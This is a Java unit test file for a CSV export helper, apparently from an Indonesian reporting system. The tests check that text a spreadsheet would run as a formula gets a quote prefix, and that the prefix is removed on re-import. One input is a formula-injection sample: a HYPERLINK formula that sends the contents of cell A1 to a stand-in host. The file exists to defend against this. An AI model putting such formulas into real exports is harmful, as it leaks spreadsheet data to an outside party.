package id.lapor.system;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class SpreadsheetCellsTests {

	@Test
	void textASpreadsheetWouldRunIsPrefixedWithAQuote() {
		assertThat(SpreadsheetCells.csvText("=HYPERLINK(\"http://x/?\"&A1,\"klik\")"))
				.isEqualTo("'=HYPERLINK(\"http://x/?\"&A1,\"klik\")");
		assertThat(SpreadsheetCells.csvText("+62 812 3456")).isEqualTo("'+62 812 3456");
		assertThat(SpreadsheetCells.csvText("-2+3")).isEqualTo("'-2+3");
		assertThat(SpreadsheetCells.csvText("@SUM(A1)")).isEqualTo("'@SUM(A1)");
		assertThat(SpreadsheetCells.csvText("\t=1")).isEqualTo("'\t=1");
		assertThat(SpreadsheetCells.csvText("\r=1")).isEqualTo("'\r=1");
	}

	@Test
	void otherTextIsUnchanged() {
		assertThat(SpreadsheetCells.csvText("Jalan rusak = bahaya")).isEqualTo("Jalan rusak = bahaya");
		assertThat(SpreadsheetCells.csvText("")).isEmpty();
		assertThat(SpreadsheetCells.csvText("'kutip")).isEqualTo("'kutip");
	}

	@Test
	void readingBackRemovesOnlyThePrefixTheExportAdded() {
		assertThat(SpreadsheetCells.fromCsv(SpreadsheetCells.csvText("=1+2"))).isEqualTo("=1+2");
		assertThat(SpreadsheetCells.fromCsv("'kutip")).isEqualTo("'kutip");
		assertThat(SpreadsheetCells.fromCsv("'")).isEqualTo("'");
		assertThat(SpreadsheetCells.fromCsv("Dinas")).isEqualTo("Dinas");
	}
}
